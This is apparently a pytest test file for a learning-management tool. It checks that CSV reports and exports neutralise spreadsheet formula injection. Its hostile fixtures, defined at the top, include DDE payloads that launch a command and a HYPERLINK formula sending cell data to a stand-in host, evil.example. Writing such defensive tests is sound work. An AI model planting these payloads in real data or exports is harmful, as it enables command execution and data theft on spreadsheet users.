"""CSV written for spreadsheets never carries a live formula: ``mirco report --format csv``,
``GET /reports/*?format=csv``, ``mirco lrs export --format csv`` and ``mirco lrs learners
list --format csv``, with learners whose names, institutions and answers are formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from mirco_lrs_test_fixtures import add_credential
from reports_dataset import C1, SUBMITTER, Person, Script

from mirco_lms.cli import main
from mirco_lms.lrs.resources import statement_writes as writes
from mirco_lms.lrs.store import SqlStore, open_store
from mirco_lms.lrs.store.registry import Learner, upsert_learners
from mirco_lms.safe_csv import FORMULA_STARTS
from mirco_lms.xapi import profile as p

HOSTILE_NAME = "=cmd|' /C calc'!A0"
HOSTILE_INSTITUTION = '=HYPERLINK("https://evil.example/?"&A1,"click")'
HOSTILE_COUNTRY_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_RESPONSE = "+1+cmd|' /C calc'!A0"
HOSTILE_OTHERS = ("-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _load_hostile(store: SqlStore) -> None:
    people = [Person("H1", HOSTILE_NAME, HOSTILE_INSTITUTION, "RS", "en"),
              Person("H2", HOSTILE_OTHERS[0], HOSTILE_OTHERS[1], "BA", "en"),
              Person("H3", HOSTILE_OTHERS[2], "MUP", "RS", "en")]
    statements = []
    for day, person in enumerate(people, start=1):
        s = Script(person, C1, datetime(2024, 3, day, 8, tzinfo=UTC))
        s.module(0, p.INITIALIZED)
        s.pretest(0.1, -0.5 if day == 1 else 0.5)
        answer = s.emit(0.5, p.ANSWERED, s.ids.question("final-test", "q1"), p.INTERACTION,
                        parent=s.ids.page("final-test"), assessment=p.FINAL, attempt=1,
                        result={"response": HOSTILE_RESPONSE, "success": False,
                                "score": {"raw": -3, "min": -5, "max": 1}})
        answer["verb"]["display"] = {"en-US": HOSTILE_OTHERS[0]}
        s.module(1, p.COMPLETED, completion=True)
        statements += s.out
    writes.save_statements(store, writes.Batch(statements), SUBMITTER, "1.0.3")
    upsert_learners(store, [Learner(f"account:{person.key}", person.key.lower(), None,
                                    person.name, person.institution, "RS",
                                    HOSTILE_COUNTRY_UNIT) for person in people])


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_defused(text: str, *expected: str) -> None:
    """No cell starts a formula (numbers aside), and each hostile value is there, defused."""
    cells = _cells(text)
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a plain number may start with '-' or '+'
    for value in expected:
        assert "'" + value in cells, (value, cells)


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'lrs.sqlite3'}"
    store = open_store(url)
    _load_hostile(store)
    store.close()
    return url


def test_report_csv_defuses_formulas(runner, hostile_db: str) -> None:  # type: ignore[no-untyped-def]
    out = runner.invoke(main, ["report", "completions", "--db", hostile_db, "--by",
                               "institution", "--format", "csv"])
    assert out.exit_code == 0, out.output
    _assert_defused(out.output, HOSTILE_INSTITUTION, HOSTILE_OTHERS[1])
    gain = runner.invoke(main, ["report", "gain", "--db", hostile_db, "--by", "institution",
                                "--format", "csv"])
    assert gain.exit_code == 0, gain.output
    _assert_defused(gain.output, HOSTILE_INSTITUTION)


def test_export_csv_defuses_formulas_and_keeps_negative_numbers(  # type: ignore[no-untyped-def]
    runner, hostile_db: str, tmp_path: Path
) -> None:
    target = tmp_path / "all.csv"
    out = runner.invoke(main, ["lrs", "export", "--format", "csv", "-o", str(target),
                               "--db", hostile_db])
    assert out.exit_code == 0, out.output
    with target.open(encoding="utf-8", newline="") as file:
        text = file.read()
    _assert_defused(text, HOSTILE_NAME, HOSTILE_OTHERS[0], HOSTILE_OTHERS[2])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert "-3" in [row["score_raw"] for row in rows]  # a real number stays a number
    assert "-0.5" in [row["score_scaled"] for row in rows]


def test_learner_list_csv_defuses_formulas(runner, hostile_db: str) -> None:  # type: ignore[no-untyped-def]
    out = runner.invoke(main, ["lrs", "learners", "list", "--db", hostile_db, "--format", "csv"])
    assert out.exit_code == 0, out.output
    _assert_defused(out.output, HOSTILE_NAME, HOSTILE_INSTITUTION, HOSTILE_COUNTRY_UNIT)


def test_http_report_csv_defuses_formulas(store: SqlStore, client) -> None:  # type: ignore[no-untyped-def]
    _load_hostile(store)
    headers = {"Authorization": add_credential(store, "analyst", "all/read").header}
    answer = client.get("/reports/completions?by=institution&format=csv", headers=headers)
    assert answer.status_code == 200
    _assert_defused(answer.text, HOSTILE_INSTITUTION, HOSTILE_OTHERS[1])
    items = client.get(f"/reports/items?course={C1}&format=csv", headers=headers)
    assert items.status_code == 200
    _assert_defused(items.text)
